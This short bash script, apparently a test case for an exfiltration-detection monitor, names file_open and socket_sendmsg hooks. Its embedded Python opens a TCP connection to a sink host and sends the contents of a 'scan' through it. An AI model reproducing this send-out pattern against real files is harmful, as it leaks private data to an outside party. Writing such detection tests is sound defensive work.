#!/usr/bin/env bash
# technique: a TCP socket is connected before the scan is opened
# hooks: file_open (of the scan), socket_sendmsg
# sink: private-tcp

. attack.sh
python3 - <<'PY'
from attack import *

with socket.create_connection(TCP, 5) as sink:
    sink.sendall(scan())
PY
